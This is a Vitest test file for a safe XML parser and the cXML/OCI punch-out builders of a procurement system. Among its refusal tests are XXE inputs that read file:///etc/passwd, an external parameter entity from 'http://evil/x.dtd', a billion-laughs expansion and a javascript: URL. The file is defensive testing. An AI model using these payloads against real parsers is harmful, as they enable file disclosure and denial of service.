// The safe XML parser and the cXML 1.2 punch-out documents (decision 0050), without a server:
// what is read, what is refused (DOCTYPE and entities: XXE; not well-formed; another request),
// and what the builders write (escaped, the currency's decimals, OCI's NEW_ITEM fields).
import { describe, expect, it } from 'vitest';
import { parseXml, textOf, at, childrenOf, XmlRefusal } from '../src/domains/punchout/xml.ts';
import {
  autoPostForm,
  ociFields,
  punchOutOrderMessage,
  punchOutSetupResponse,
  readPunchOutSetupRequest,
  MAX_BUYER_COOKIE,
  operationAllowed,
  type PunchOutLine,
} from '../src/domains/punchout/cxml.ts';
import { setupRequestXml } from './punchoutFixtures.ts';

const code = (f: () => unknown) => {
  try {
    f();
  } catch (error) {
    return (error as { code?: string }).code;
  }
  return null;
};

describe('the safe XML parser', () => {
  it('reads elements, attributes, text, CDATA, references, comments and processing instructions', () => {
    const root = parseXml(
      '\uFEFF<?xml version="1.0"?><!-- c --><a x="1 &amp; 2" y=\'&#x41;\'><b>t&lt;&#65;</b><![CDATA[<raw>]]><c/></a>',
    );
    expect(root.name).toBe('a');
    expect(root.attrs).toEqual({ x: '1 & 2', y: 'A' });
    expect(textOf(at(root, 'b'))).toBe('t<A');
    expect(root.children).toContain('<raw>');
  });

  it('reads a DOCTYPE that only names an external DTD, by SYSTEM or PUBLIC id, in any legal spelling', () => {
    const dtd = 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd';
    for (const doctype of [
      `<!DOCTYPE cXML SYSTEM "${dtd}">`,
      `<!DOCTYPE cXML SYSTEM '${dtd}'>`,
      `<!DOCTYPE cXML\r\n  SYSTEM\t"${dtd}"\r\n>`,
      `<!DOCTYPE cXML PUBLIC "-//cXML.org//DTD cXML 1.2.014//EN" "${dtd}">`,
      `<!DOCTYPE cXML PUBLIC '-//cXML//DTD cXML//EN'\n '${dtd}' >`,
      '<!DOCTYPE cXML>',
      // A DTD that would be harmful if fetched is not fetched either: only its name is read.
      '<!DOCTYPE cXML SYSTEM "file:///etc/passwd">',
    ]) {
      const root = parseXml(
        `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<!-- c -->\r\n${doctype}\r\n<cXML a="1"><b>x</b></cXML>`,
      );
      expect([doctype, root.name, textOf(at(root, 'b'))]).toEqual([doctype, 'cXML', 'x']);
    }
    // Line ends read as LF; attribute white space normalised (XML 1.0 2.11 and 3.3.3).
    const root = parseXml('<a v="1\r\n2\t3&#10;"><b>x\r\ny\rz</b></a>');
    expect(root.attrs.v).toBe('1 2 3\n');
    expect(textOf(at(root, 'b'))).toBe('x\ny\nz');
  });

  it('refuses an internal DTD subset, any declaration and any entity it was not told about (XXE) with MROPU0002', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
    expect(code(() => parseXml(xxe))).toBe('MROPU0002');
    expect(code(() => parseXml('<!doctype x><x/>'))).toBe('MROPU0002');
    const dtd = 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd';
    for (const bad of [
      `<!DOCTYPE cXML SYSTEM "${dtd}" [<!ENTITY x "y">]><cXML>&x;</cXML>`,
      `<!DOCTYPE cXML SYSTEM "${dtd}"[]><cXML/>`,
      `<!DOCTYPE cXML PUBLIC "-//x//EN" "${dtd}" [ <!ENTITY % p SYSTEM "http://evil/x.dtd"> %p; ]><cXML/>`,
      '<!DOCTYPE cXML [<!ELEMENT cXML ANY>]><cXML/>',
      '<!ENTITY x "y"><cXML/>',
      '<cXML><!ENTITY x "y"></cXML>',
      '<cXML><!ATTLIST cXML a CDATA "b"></cXML>',
    ]) {
      expect(
        code(() => parseXml(bad)),
        bad,
      ).toBe('MROPU0002');
    }
    expect(code(() => parseXml('<x>&xxe;</x>'))).toBe('MROPU0002');
    expect(code(() => parseXml('<x a="&ext;"/>'))).toBe('MROPU0002');
    // Billion laughs needs declarations: refused before anything is expanded.
    expect(code(() => parseXml('<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><l>&b;</l>'))).toBe('MROPU0002');
  });

  it('refuses what is not well-formed with MROPU0001', () => {
    for (const bad of [
      '',
      'text',
      '<a>',
      '<a></b>',
      '<a><b></a></b>',
      '<a/><b/>',
      '<a/>tail',
      '<a x="1" x="2"/>',
      '<a x=1/>',
      '<a x="<"/>',
      '<a>&</a>',
      '<a>&#0;</a>',
      '<a><!-- open</a>',
      '<a',
      // A DOCTYPE after the root, twice, without a name or with a broken id.
      '<a/><!DOCTYPE a>',
      '<!DOCTYPE a><!DOCTYPE a><a/>',
      '<!DOCTYPE><a/>',
      '<!DOCTYPE a SYSTEM "x><a/>',
      '<!DOCTYPE a PUBLIC "{bad}" "x"><a/>',
      '<!DOCTYPE a SYSTEM "x" junk><a/>',
    ]) {
      expect(
        code(() => parseXml(bad)),
        bad,
      ).toBe('MROPU0001');
    }
    expect(() => parseXml('<a>'.repeat(1) + 'x'.repeat(1_000_001))).toThrow(XmlRefusal);
  });
});

describe('cXML punch-out documents', () => {
  it('reads a PunchOutSetupRequest: credentials, operation, BuyerCookie, BrowserFormPost, the user', () => {
    const r = readPunchOutSetupRequest(setupRequestXml({ secret: 's3cret', cookie: 'C-1&2' }));
    expect(r.from).toEqual({ domain: 'NetworkID', identity: 'HANBIT-ERP' });
    expect(r.sender).toMatchObject({ identity: 'HANBIT-ERP', sharedSecret: 's3cret', userAgent: 'Fake ERP 1.0' });
    expect(r).toMatchObject({
      operation: 'create',
      buyerCookie: 'C-1&2',
      browserFormPost: 'http://127.0.0.1:9/return',
      userEmail: 'buyer01@example.com',
    });
  });

  it('refuses another request or a missing part with MROPU0004, naming what was expected', () => {
    const refusal = (xml: string) => {
      try {
        readPunchOutSetupRequest(xml);
      } catch (error) {
        return `${(error as { code: string }).code} ${(error as { expected?: string }).expected ?? ''}`;
      }
      return null;
    };
    expect(refusal('<Order/>')).toBe('MROPU0004 cXML');
    expect(refusal(setupRequestXml({ formPost: 'javascript:alert(1)' }))).toBe('MROPU0004 BrowserFormPost/URL');
    expect(refusal(setupRequestXml().replace(/<BuyerCookie>.*<\/BuyerCookie>/, ''))).toBe('MROPU0004 BuyerCookie');
    expect(refusal(setupRequestXml({ cookie: 'c'.repeat(MAX_BUYER_COOKIE + 1) }))).toBe('MROPU0004 BuyerCookie');
    expect(refusal(setupRequestXml().replace('deploymentMode="test"', 'deploymentMode="staging"'))).toBe(
      'MROPU0004 Request/@deploymentMode',
    );
    expect(refusal(setupRequestXml({ operation: 'delete' }))).toBe('MROPU0004 operation');
    expect(refusal(setupRequestXml({}).replaceAll('PunchOutSetupRequest', 'OrderRequest'))).toBe(
      'MROPU0004 PunchOutSetupRequest',
    );
  });

  it('writes a PunchOutSetupResponse and a PunchOutOrderMessage that read back, escaped', () => {
    const response = punchOutSetupResponse({ payloadId: 'p@x', timestamp: 't', startPage: 'https://a/b?c=1&d=2' });
    // Our own documents declare cXML's DTD, as cXML requires; they are read back exactly as written.
    const body = (xml: string) => parseXml(xml);
    expect(textOf(at(body(response), 'Response', 'PunchOutSetupResponse', 'StartPage', 'URL'))).toBe(
      'https://a/b?c=1&d=2',
    );
    const lines: PunchOutLine[] = [
      {
        supplierPartId: 'GLV-001',
        auxiliaryId: 'L1',
        quantity: 10,
        unitPrice: '3500',
        currency: 'KRW',
        description: '니트릴 코팅 장갑 <L>',
        unitOfMeasure: 'EA',
        unspsc: '46181504',
        category: 'B0101',
        leadTimeDays: 3,
      },
      {
        supplierPartId: 'BLT-M8',
        auxiliaryId: 'L2',
        quantity: 2,
        unitPrice: '120',
        currency: 'KRW',
        description: '육각 볼트 M8×30',
        unitOfMeasure: 'BX',
        unspsc: null,
        category: 'A0301',
      },
    ];
    const message = body(
      punchOutOrderMessage({
        payloadId: 'm',
        timestamp: 't',
        from: { domain: 'DUNS', identity: 'MRO' },
        to: { domain: 'NetworkID', identity: 'HANBIT-ERP' },
        buyerCookie: 'C-1&2',
        lines,
      }),
    );
    const order = at(message, 'Message', 'PunchOutOrderMessage');
    // operationAllowed tells the truth for each session (create and edit: edit; inspect: inspect).
    expect(at(order, 'PunchOutOrderMessageHeader')!.attrs.operationAllowed).toBe('edit');
    expect([operationAllowed('create'), operationAllowed('edit'), operationAllowed('inspect')]).toEqual([
      'edit',
      'edit',
      'inspect',
    ]);
    expect(textOf(at(order, 'BuyerCookie'))).toBe('C-1&2');
    expect(textOf(at(order, 'PunchOutOrderMessageHeader', 'Total', 'Money'))).toBe('35240');
    const items = order!.children.filter((c) => typeof c !== 'string' && c.name === 'ItemIn');
    expect(items).toHaveLength(2);
    expect(textOf(at(items[0] as never, 'ItemDetail', 'Description'))).toBe('니트릴 코팅 장갑 <L>');
    // UNSPSC first when the category has one, our own category always (decision 0084).
    const classes = (item: unknown) =>
      childrenOf(at(item as never, 'ItemDetail'), 'Classification').map((c) => `${c.attrs.domain}=${textOf(c)}`);
    expect(classes(items[0])).toEqual(['UNSPSC=46181504', 'MRO-CATEGORY=B0101']);
    expect(classes(items[1])).toEqual(['MRO-CATEGORY=A0301']);
    expect(Object.fromEntries(ociFields(lines))).toMatchObject({
      'NEW_ITEM-MATGROUP[1]': '46181504',
      'NEW_ITEM-MATGROUP[2]': '',
    });
    expect(() =>
      punchOutOrderMessage({
        payloadId: 'm',
        timestamp: 't',
        from: { domain: 'a', identity: 'b' },
        to: { domain: 'a', identity: 'b' },
        buyerCookie: 'c',
        lines: [lines[0]!, { ...lines[1]!, currency: 'USD' }],
      }),
    ).toThrow();
    const usd = ociFields([{ ...lines[1]!, currency: 'USD', unitPrice: '1.5' }]);
    expect(Object.fromEntries(usd)).toMatchObject({
      'NEW_ITEM-DESCRIPTION[1]': '육각 볼트 M8×30',
      'NEW_ITEM-QUANTITY[1]': '2',
      'NEW_ITEM-UNIT[1]': 'BX',
      'NEW_ITEM-PRICE[1]': '1.50',
      'NEW_ITEM-CURRENCY[1]': 'USD',
      'NEW_ITEM-VENDORMAT[1]': 'BLT-M8',
      'NEW_ITEM-EXT_PRODUCT_ID[1]': 'L2',
      'NEW_ITEM-LONGTEXT_1:132[]': '육각 볼트 M8×30',
    });
    expect(ociFields(lines).filter(([name]) => name.endsWith('[2]')).length).toBeGreaterThan(10);
    const form = autoPostForm('https://erp/hook?a=1&b="2"', [['NEW_ITEM-DESCRIPTION[1]', '<장갑>']], '보내기');
    expect(form).toContain('action="https://erp/hook?a=1&amp;b=&quot;2&quot;"');
    expect(form).toContain('value="&lt;장갑&gt;"');
  });
});
